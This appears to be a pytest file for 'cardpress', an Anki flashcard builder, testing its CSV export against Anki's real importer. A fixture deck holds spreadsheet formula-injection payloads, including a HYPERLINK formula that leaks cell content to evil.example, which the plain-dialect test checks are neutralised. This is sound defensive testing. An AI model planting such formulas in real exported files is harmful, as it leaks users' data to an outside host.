"""The CSV export, imported into real Anki collections (Anki's own Rust backend)."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import pytest
from anki._backend import RustBackend
from anki.collection import Collection
from click.testing import CliRunner

from cardpress import build, load_deck
from cardpress.cli import cli
from cardpress.errors import Severity
from cardpress.export import BuildOptions, ExportSummary
from cardpress.export.csv import anki_fields, one_line, plain_question_answer, write_csv
from cardpress.model import Deck, Kind
from cardpress.notes import STOCK_NAMES, guid, make_notes
from tests.conftest import (
    NONE_SKIPPED,
    REPO,
    bucket_sizes,
    decks_of,
    edit,
    fresh_collection,
    import_apkg,
    import_csv,
    neutralised,
    notes_by_guid,
)

# Anki's "if matches" choices (CsvMetadata.DupeResolution).
UPDATE, PRESERVE = 0, 1


def _build(deck_file: Path, out: Path, dialect: str = "anki") -> tuple[Path, Path]:
    build([deck_file], out, options=BuildOptions(csv_dialect=dialect))
    return out / f"{deck_file.stem}.apkg", out / f"{deck_file.stem}.csv"


def _notes_state(col: Collection) -> dict[str, tuple[int, int, list[str], list[str], str]]:
    return {
        g: (n.id, n.mod, list(n.fields), sorted(n.tags), n.note_type()["name"])
        for g, n in notes_by_guid(col).items()
    }


def _write_deck(folder: Path, body: str, name: str = "payload") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{name}.yaml"
    path.write_text(body, encoding="utf-8")
    return path


# -- the anki dialect ----------------------------------------------------------------------


def _write_csv(deck: Deck, path: Path, dialect: str = "anki") -> ExportSummary:
    return write_csv(make_notes(deck), path, BuildOptions(csv_dialect=dialect))


def test_csv_imports_the_same_notes_as_the_package(
    good_deck: Path, tmp_path: Path, collection: Collection
) -> None:
    deck = load_deck(good_deck)
    package, table = _build(good_deck, tmp_path / "dist")

    log = import_csv(collection, table)

    assert bucket_sizes(log) == {"new": 8, "updated": 0, **NONE_SKIPPED}
    from_csv = notes_by_guid(collection)
    with fresh_collection(tmp_path / "package") as other:
        import_apkg(other, package)
        from_package = notes_by_guid(other)
        assert set(from_csv) == set(from_package) == {guid(deck.key, c.id) for c in deck.cards}
        for note in make_notes(deck):
            card = note.card
            ours, theirs = from_csv[note.guid], from_package[note.guid]
            assert ours.note_type()["name"] == STOCK_NAMES[card.kind]
            assert sorted(ours.tags) == sorted(theirs.tags) == sorted(note.tags)
            assert decks_of(collection, ours) == decks_of(other, theirs)
            assert decks_of(collection, ours) == {note.deck}
            # Field content as designed, and the same HTML as the package's, on one line.
            assert list(ours.fields) == list(anki_fields(card))
            assert ours.fields[0] == one_line(theirs.fields[0])
            if card.kind in (Kind.REVERSED, Kind.TYPE):
                assert ours.fields[1] == one_line(theirs["Back"])
            elif card.kind is Kind.BASIC:
                assert ours.fields[1].startswith(one_line(theirs["Back"]))
            assert not any("\n" in field or "\r" in field for field in ours.fields)
        assert collection.card_count() == other.card_count() == 8 + 1 + 2
    names = {d.name for d in collection.decks.all_names_and_ids()}
    assert names == {
        "Default",
        "Test History",
        "Test History::Dates",
        "Test History::People",
        "Test History::Places",
    }
    assert list(collection.get_empty_cards().notes) == []


def test_fields_carry_extra_topic_and_source_as_designed(
    good_deck: Path, tmp_path: Path, collection: Collection
) -> None:
    deck = load_deck(good_deck)
    import_csv(collection, _build(good_deck, tmp_path / "dist")[1])
    notes = notes_by_guid(collection)

    basic = notes[guid(deck.key, "general-secretary")]
    assert basic["Front"] == "Stalin's post that controlled <strong>party appointments</strong>"
    assert basic["Back"] == (
        'General Secretary<div class="cp-extra"><p>Two lines:</p><ul><li>one</li><li>two</li>'
        '</ul></div><div class="cp-meta">People</div>'
    )
    cloze = notes[guid(deck.key, "expelled")]
    assert cloze["Text"] == "Trotsky was expelled from the party in {{c1::1927}}."
    assert cloze["Back Extra"] == (
        '<div class="cp-extra"><em>Context:</em> exile followed.</div>'
        '<div class="cp-meta">Dates · §2 Exile</div>'
    )
    # The reverse card asks the Back, type-in compares with it: nothing else goes there.
    assert notes[guid(deck.key, "lenin-died")]["Back"] == "1924"
    assert notes[guid(deck.key, "assassin")]["Back"] == "Mercader"
    unicode = notes[guid(deck.key, "unicode")]
    assert unicode["Front"] == 'Ramón Mercader — «agent» 🗡️ with "quotes", commas; and a # sign'
    assert unicode["Back"].startswith("Рамон Меркадер, עברית, \u00e9<div")


def test_csv_on_top_of_the_package_adds_nothing(
    good_deck: Path, tmp_path: Path, collection: Collection
) -> None:
    package, table = _build(good_deck, tmp_path / "dist")
    import_apkg(collection, package)
    before = _notes_state(collection)

    log = import_csv(collection, table)

    # Every GUID exists under our own note type, not the stock one the row names: skipped.
    assert bucket_sizes(log) == {**{"new": 0, "updated": 0}, **NONE_SKIPPED, "conflicting": 8}
    assert _notes_state(collection) == before
    assert collection.card_count() == 11


def test_package_on_top_of_the_csv_adds_nothing(
    good_deck: Path, tmp_path: Path, collection: Collection
) -> None:
    package, table = _build(good_deck, tmp_path / "dist")
    import_csv(collection, table)
    before = _notes_state(collection)

    log = import_apkg(collection, package)

    assert bucket_sizes(log) == {**{"new": 0, "updated": 0}, **NONE_SKIPPED, "conflicting": 8}
    assert _notes_state(collection) == before


def test_edited_row_updates_its_note_in_place(
    good_deck: Path, tmp_path: Path, collection: Collection
) -> None:
    deck = load_deck(good_deck)
    table = _build(good_deck, tmp_path / "dist")[1]
    import_csv(collection, table)
    before = _notes_state(collection)

    # Re-importing the same file changes nothing: every row is identical to its note.
    log = import_csv(collection, table)
    assert bucket_sizes(log) == {**{"new": 0, "updated": 0}, **NONE_SKIPPED, "duplicate": 8}
    assert _notes_state(collection) == before

    edit(good_deck, "back: Mercader", "back: Mercader (Ramón)")
    log = import_csv(collection, _build(good_deck, tmp_path / "dist")[1])

    edited = guid(deck.key, "assassin")
    assert bucket_sizes(log) == {**{"new": 0, "updated": 1}, **NONE_SKIPPED, "duplicate": 7}
    assert [collection.get_note(entry.id.nid).guid for entry in log.updated] == [edited]
    after = _notes_state(collection)
    assert after[edited][0] == before[edited][0]  # the same note, updated in place
    assert after[edited][2] == ["Agent who killed Trotsky (family name)", "Mercader (Ramón)"]
    assert {g: v for g, v in after.items() if g != edited} == {
        g: v for g, v in before.items() if g != edited
    }


def test_file_pins_update_on_guid_match_whatever_the_user_chose_last(
    good_deck: Path, tmp_path: Path, collection: Collection
) -> None:
    table = _build(good_deck, tmp_path / "dist")[1]
    # Anki remembers the last "if matches" choice of the import dialog and offers it again.
    collection.set_config("csvDuplicateResolution", PRESERVE)
    assert collection.get_csv_metadata(str(table), None).dupe_resolution == UPDATE
    without = tmp_path / "without.csv"
    without.write_text(
        table.read_text(encoding="utf-8").replace("#if matches:update current\n", ""),
        encoding="utf-8",
    )
    assert collection.get_csv_metadata(str(without), None).dupe_resolution == PRESERVE


def test_headers_map_every_column(good_deck: Path, tmp_path: Path, collection: Collection) -> None:
    table = _build(good_deck, tmp_path / "dist")[1]
    meta = collection.get_csv_metadata(str(table), None)
    assert (meta.notetype_column, meta.deck_column, meta.tags_column, meta.guid_column) == (
        1,
        2,
        5,
        6,
    )
    assert meta.is_html and meta.force_is_html and meta.force_delimiter
    assert list(meta.column_labels) == ["Note type", "Deck", "Front", "Back", "Tags", "GUID"]
    assert [row.vals[0] for row in meta.preview] == [
        "Basic (and reversed card)",
        "Cloze",
        "Basic (type in the answer)",
        "Basic",
        "Cloze",
    ]


def _guid_starting_with_hash(deck_key: str) -> str:
    return next(
        card_id
        for card_id in (f"card-{i}" for i in range(10_000))
        if guid(deck_key, card_id).startswith("#")
    )


def test_a_profile_in_another_language_lacks_the_english_note_types(
    good_deck: Path, tmp_path: Path
) -> None:
    # Anki names the stock note types in the profile's language when it creates them.
    table = _build(good_deck, tmp_path / "dist")[1]
    (tmp_path / "de").mkdir()
    col = Collection(str(tmp_path / "de" / "collection.anki2"), backend=RustBackend(langs=["de"]))
    try:
        assert "Einfach" in {m["name"] for m in col.models.all()}
        log = import_csv(col, table)
        assert bucket_sizes(log)["missing_notetype"] == 8 and col.note_count() == 0
    finally:
        col.close()


def test_no_row_begins_with_a_hash(tmp_path: Path, collection: Collection) -> None:
    hashed = _guid_starting_with_hash("hashes")
    deck_file = _write_deck(
        tmp_path / "cards",
        "key: hashes\nname: Hashes\ncards:\n"
        f"  - id: {hashed}\n    front: A card whose GUID begins with '#'\n    back: still here\n"
        '  - id: hash-front\n    front: "#1 hit of 1927?"\n    back: "#2"\n'
        '  - id: hash-cloze\n    kind: cloze\n    text: "#hashtag {{c1::first}}"\n',
        name="hashes",
    )
    table = _build(deck_file, tmp_path / "dist")[1]
    lines = table.read_text(encoding="utf-8").splitlines()
    data = lines[lines.index(next(x for x in lines if not x.startswith("#"))) :]
    assert len(data) == 3 and not any(line.startswith("#") for line in data)

    log = import_csv(collection, table)

    assert bucket_sizes(log) == {"new": 3, "updated": 0, **NONE_SKIPPED}
    notes = notes_by_guid(collection)
    assert guid("hashes", hashed).startswith("#") and guid("hashes", hashed) in notes
    assert notes[guid("hashes", "hash-front")]["Front"] == "#1 hit of 1927?"
    assert notes[guid("hashes", "hash-cloze")]["Text"] == "#hashtag {{c1::first}}"


def test_parent_deck_rows_come_before_subdecks(tmp_path: Path, collection: Collection) -> None:
    # No declared topics: a card may have a topic (a subdeck) or none (the deck itself).
    deck_file = _write_deck(
        tmp_path / "cards",
        "key: tree\nname: Tree\ncards:\n"
        "  - {id: leaf, topic: branch, front: In the subdeck, back: yes}\n"
        "  - {id: root, front: In the parent deck, back: yes}\n",
        name="tree",
    )
    table = _build(deck_file, tmp_path / "dist")[1]
    with table.open(encoding="utf-8", newline="") as f:
        rows = [r for r in csv.reader(f) if not r[0].startswith("#")]
    assert [r[1] for r in rows] == ["Tree", "Tree::branch"]

    log = import_csv(collection, table)

    assert bucket_sizes(log) == {"new": 2, "updated": 0, **NONE_SKIPPED}
    notes = notes_by_guid(collection)
    assert decks_of(collection, notes[guid("tree", "root")]) == {"Tree"}
    assert decks_of(collection, notes[guid("tree", "leaf")]) == {"Tree::branch"}
    names = {d.name for d in collection.decks.all_names_and_ids()}
    assert names == {"Default", "Tree", "Tree::branch"}  # no "Tree+"


def test_a_deck_named_like_a_number_is_warned_about(tmp_path: Path, collection: Collection) -> None:
    deck_file = _write_deck(
        tmp_path / "cards",
        'key: year\nname: "1984"\ncards:\n  - {id: a, front: Big Brother?, back: yes}\n',
        name="year",
    )
    summary = _write_csv(load_deck(deck_file), tmp_path / "year.csv")
    assert [w.message for w in summary.warnings] == [
        "Anki's CSV importer reads the deck name '1984' as a deck id and skips its rows "
        "(missing_deck); rename the deck or use the .apkg"
    ]
    # What the warning is about, seen in the real importer:
    log = import_csv(collection, tmp_path / "year.csv")
    assert bucket_sizes(log)["missing_deck"] == 1 and bucket_sizes(log)["new"] == 0


def test_the_example_deck_imports_cleanly(tmp_path: Path, collection: Collection) -> None:
    cards = tmp_path / "cards"
    shutil.copytree(REPO / "cards", cards)  # a copy: the build rewrites the lock file
    deck = load_deck(cards / "stalin-trotsky.yaml")
    package, table = _build(cards / "stalin-trotsky.yaml", tmp_path / "dist")

    log = import_csv(collection, table)

    assert bucket_sizes(log) == {"new": len(deck.cards), "updated": 0, **NONE_SKIPPED}
    assert list(collection.get_empty_cards().notes) == []
    with fresh_collection(tmp_path / "package") as other:
        import_apkg(other, package)
        assert collection.card_count() == other.card_count()
        assert {d.name for d in collection.decks.all_names_and_ids()} == {
            d.name for d in other.decks.all_names_and_ids()
        }


PAYLOAD_DECK = r"""key: payload
name: Payload
tags: [csv]
topics:
  calc: "=1+1"
  text: Text
cards:
  - id: hyperlink
    topic: calc
    front: "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"click\")"
    back: "+1"
  - id: minus-at
    topic: calc
    front: "-2"
    back: "@SUM(1)"
    tags: [-neg]
  - id: tab-cr
    topic: calc
    front: "\tTab first"
    back: "\rCarriage return first"
  - id: survivors
    topic: text
    front: "Ramón «agent» 🗡️ with \"quotes\", commas; 'single' and = inside"
    back: |
      First line, with a comma
      second line "quoted"
  - id: code
    topic: text
    kind: type
    front: |
      Which code?
      ```
      x = 1
      y = 2
      ```
    back: "e\u0301t\u00e9"
  - id: hinted
    topic: text
    kind: cloze
    text: "{{c1::Trotsky::who}} went to {{c2::Mexico}}, \"finally\"."
"""


def test_field_content_survives_the_real_importer(tmp_path: Path, collection: Collection) -> None:
    deck_file = _write_deck(tmp_path / "cards", PAYLOAD_DECK)
    deck = load_deck(deck_file)
    table = _build(deck_file, tmp_path / "dist")[1]

    log = import_csv(collection, table)

    assert bucket_sizes(log) == {"new": 6, "updated": 0, **NONE_SKIPPED}
    notes = notes_by_guid(collection)
    for card in deck.cards:
        assert list(notes[guid(deck.key, card.id)].fields) == list(anki_fields(card))
    survivors = notes[guid("payload", "survivors")]
    assert survivors["Front"] == "Ramón «agent» 🗡️ with \"quotes\", commas; 'single' and = inside"
    assert survivors["Back"].startswith('First line, with a comma<br>second line "quoted"<div')
    code = notes[guid("payload", "code")]
    assert code["Front"] == "<p>Which code?</p><pre><code>x = 1<br>y = 2<br></code></pre>"
    assert code["Back"] == "\u00e9t\u00e9"  # NFC, as Anki stores it
    hinted = notes[guid("payload", "hinted")]
    assert hinted["Text"] == '{{c1::Trotsky::who}} went to {{c2::Mexico}}, "finally".'
    assert len(hinted.cards()) == 2
    # A formula start is harmless in Anki: the anki dialect keeps it as written.
    assert notes[guid("payload", "hyperlink")]["Back"].startswith("+1<div")
    assert sorted(notes[guid("payload", "minus-at")].tags) == ["-neg", "csv", "topic::calc"]


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("line1<br>\nline2", "line1<br>line2"),
        ("<p>a</p>\n<p>b</p>", "<p>a</p><p>b</p>"),
        ("<ul>\n<li>one</li>\n<li>two</li>\n</ul>", "<ul><li>one</li><li>two</li></ul>"),
        (
            "<blockquote>\n<p>quote<br>\ntwo</p>\n</blockquote>",
            "<blockquote><p>quote<br>two</p></blockquote>",
        ),
        # Inside <pre> a newline is a line break; the one right after <pre> is dropped by HTML.
        ("<pre><code>a\nb\n</code></pre>", "<pre><code>a<br>b<br></code></pre>"),
        ("<pre>\na\nb</pre>\n<p>c</p>", "<pre>a<br>b</pre><p>c</p>"),
        # Between words or inline tags a newline renders as a space, so it becomes one.
        ("<div>x\ny</div>", "<div>x y</div>"),
        ("<b>x</b>\n<i>y</i>", "<b>x</b> <i>y</i>"),
        ("\\[a\n+b\\]", "\\[a +b\\]"),
        ("crlf\r\nand\rcr", "crlf and cr"),
        ("no newline", "no newline"),
    ],
)
def test_one_line_keeps_what_html_renders(html: str, expected: str) -> None:
    assert one_line(html) == expected


# -- the plain dialect ---------------------------------------------------------------------


def test_plain_dialect_neutralises_formulas_and_keeps_the_rest(tmp_path: Path) -> None:
    deck_file = _write_deck(tmp_path / "cards", PAYLOAD_DECK)
    deck = load_deck(deck_file)
    table = _build(deck_file, tmp_path / "dist", dialect="plain")[1]

    data = table.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfquestion,answer,topic,tags\r\n")
    assert data.endswith(b"\r\n")
    with table.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))

    assert rows[0] == ["question", "answer", "topic", "tags"]
    assert len(rows) == 1 + len(deck.cards)
    cells = dict(zip([c.id for c in deck.cards], rows[1:], strict=True))
    # Every formula payload is neutralised with a leading quote...
    assert cells["hyperlink"][:3] == [
        '\'=HYPERLINK("https://evil.example/?leak="&A1,"click")',
        "'+1",
        "'=1+1",
    ]
    assert cells["minus-at"] == ["'-2", "'@SUM(1)", "'=1+1", "csv -neg topic::calc"]
    # ...and every other cell is the card's text as it shows: plain text, no markup.
    assert cells["tab-cr"][:2] == ["Tab first", "Carriage return first"]
    assert cells["survivors"][:2] == [
        "Ramón «agent» 🗡️ with \"quotes\", commas; 'single' and = inside",
        'First line, with a comma\nsecond line "quoted"',
    ]
    assert cells["code"][:2] == ["Which code?\nx = 1\ny = 2", "\u00e9t\u00e9"]
    assert cells["hinted"][:2] == [
        '[who] went to [...], "finally".',
        'Trotsky went to Mexico, "finally".',
    ]
    for note in make_notes(deck):
        card = note.card
        question, answer = plain_question_answer(card)
        expected = [question, answer, card.topic_title, " ".join(note.tags)]
        assert cells[card.id] == [neutralised(cell) for cell in expected]
    neutral = [c for row in rows[1:] for c in row if c.startswith("'")]
    assert all(c[1:2] in ("=", "+", "-", "@", "\t", "\r") for c in neutral)


def test_plain_dialect_of_the_good_deck(good_deck: Path, tmp_path: Path) -> None:
    deck = load_deck(good_deck)
    table = _build(good_deck, tmp_path / "dist", dialect="plain")[1]
    with table.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[1:3] == [
        ["Year Lenin died", "1924", "Dates", "history test topic::dates"],
        [
            "Trotsky was expelled from the party in [...].",
            "Trotsky was expelled from the party in 1927.",
            "Dates",
            "history test topic::dates",
        ],
    ]
    assert [row[0] for row in rows[1:]] == [plain_question_answer(c)[0] for c in deck.cards]


# -- both ----------------------------------------------------------------------------------


def test_images_cannot_travel_and_the_build_says_so(good_deck: Path, tmp_path: Path) -> None:
    deck = load_deck(good_deck)
    for dialect in ("anki", "plain"):
        summary = _write_csv(deck, tmp_path / f"{dialect}.csv", dialect=dialect)
        assert [(w.location, w.severity, w.message) for w in summary.warnings] == [
            (
                deck.location,
                Severity.NOTE,  # by design, not a mistake: it never fails --strict
                "this deck has 2 images; images cannot travel in a CSV (use the .apkg, or "
                "leave the CSV out with --only)",
            )
        ]
    result = build([good_deck], tmp_path / "dist")
    assert sum("images cannot travel" in w.message for w in result.warnings) == 1

    plain = _write_deck(tmp_path / "cards", PAYLOAD_DECK)
    assert _write_csv(load_deck(plain), tmp_path / "none.csv").warnings == ()


def test_output_is_deterministic(
    good_deck: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for dialect in ("anki", "plain"):
        first = _build(good_deck, tmp_path / f"one-{dialect}", dialect)[1].read_bytes()
        monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")  # clocks do not matter
        good_deck.with_name("history.lock.json").unlink()
        second = _build(good_deck, tmp_path / f"two-{dialect}", dialect)[1].read_bytes()
        monkeypatch.delenv("SOURCE_DATE_EPOCH")
        assert first == second


def test_unknown_dialect_is_refused(good_deck: Path, tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="unknown CSV dialect 'excel'"):
        _write_csv(load_deck(good_deck), tmp_path / "x.csv", dialect="excel")


def test_cli_writes_the_chosen_dialect(good_deck: Path, tmp_path: Path) -> None:
    runner = CliRunner()
    out = tmp_path / "dist"
    result = runner.invoke(cli, ["build", str(good_deck), "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert f"{out / 'history.csv'}: 8 notes for Anki's File > Import, 3 decks\n" in result.output
    assert (out / "history.csv").read_bytes().startswith(b"#separator:Comma\n")

    result = runner.invoke(cli, ["build", str(good_deck), "-o", str(out), "--csv-dialect", "plain"])
    assert result.exit_code == 0, result.output
    assert f"{out / 'history.csv'}: 8 rows of plain CSV\n" in result.output
    assert (out / "history.csv").read_bytes().startswith(b"\xef\xbb\xbfquestion,answer")

    result = runner.invoke(cli, ["build", str(good_deck), "--csv-dialect", "excel"])
    assert result.exit_code == 2
